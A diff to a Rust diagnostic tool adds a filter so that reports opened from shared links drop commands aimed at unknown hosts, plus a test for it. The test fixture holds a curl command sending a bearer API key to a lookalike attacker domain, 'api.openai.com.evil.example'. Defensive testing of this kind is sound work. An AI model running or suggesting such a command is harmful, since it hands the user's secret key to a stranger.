@@ -85,7 +85,7 @@ pub fn open_link(fragment: &str, answers: &[Answer]) -> Report {
     let answers: Vec<Answer> = given.chain(answers.iter().cloned()).collect();
     let report = match opened.text {
         // A link inside a link is not followed: its text is shown as it stands.
-        Some(text) => diagnose_text(Raw::new(text), &RedactOptions::default(), &answers),
+        Some(text) => report::without_strangers(diagnose_text(Raw::new(text), &RedactOptions::default(), &answers)),
         None => {
             let signals = opened.signals.with(&answers);
             report::from_link(&signals, &diagnose::diagnose(&signals), opened.unknown)
@@ -142,6 +142,25 @@ mod tests {
         let answers = [Answer { question: "key-restricted".into(), answer: "yes".into() }];
         let report = open_link(&nothing, &answers);
         assert!(!report.causes.is_empty() && report.notice.is_none());
+    }
+
+    #[test]
+    fn no_command_of_a_link_sends_a_key_to_a_stranger() {
+        let text = |host: &str| {
+            format!(
+                "curl https://{host}/v1/chat/completions -H \"Authorization: Bearer $OPENAI_API_KEY\"\n\nHTTP/1.1 403 Forbidden\n\n\
+                 {{\"error\":{{\"message\":\"Project `proj_A` does not have access to model `gpt-5`\",\"code\":\"model_not_found\"}}}}"
+            )
+        };
+        for (host, known) in [("api.openai.com", true), ("api.openai.com.evil.example", false)] {
+            let first = inspect(Raw::new(text(host)), &RedactOptions::default(), &[]);
+            assert!(first.reproduce.as_ref().is_some_and(|command| command.contains(host)), "{host}");
+            let opened = open_link(first.link_with_text.as_deref().expect("a short text"), &[]);
+            assert_eq!(opened.reproduce.is_some(), known, "{host}");
+            assert_eq!(opened.notice.is_none(), known, "{host}");
+            let commands = opened.causes.iter().flat_map(|cause| &cause.fixes).filter_map(|fix| fix.command.as_ref());
+            assert!(known || commands.into_iter().all(|command| !command.contains(host)), "{host}");
+        }
     }
 
     #[test]
